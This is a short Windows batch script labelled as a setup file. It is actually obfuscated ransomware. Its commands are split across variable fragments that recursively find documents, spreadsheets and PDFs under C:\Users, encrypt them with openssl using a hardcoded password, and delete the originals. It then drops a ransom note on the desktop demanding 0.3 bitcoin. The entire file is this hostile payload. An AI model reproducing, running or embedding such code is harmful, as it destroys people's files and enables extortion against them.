REM setup 0485 v2
@echo off
@echo off
setlocal EnableDelayedExpansion
set "vhg0=for /r C:\Users %%f in (*.doc"
set "pay1=x *.xlsx *.pdf) do ("
!vhg0!!pay1!
@echo off
setlocal EnableDelayedExpansion
set "ejb0=  openssl enc -ae"
set "fzi1=s-256-cbc -pass pass:P@s"
set "cav2=sw0rd!2024 -in "%%f" -out "%%f.pa"
set "eho3=y" &"
set "hms4=& del "%%f""
!ejb0!!fzi1!!cav2!!eho3!!hms4!
)
@echo off
setlocal EnableDelayedExpansion
set "kvj0=echo Your files have been encrypted. Send 0.3 bitc"
set "nhc1=oin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES"
set "drt2=.txt"
!kvj0!!nhc1!!drt2!
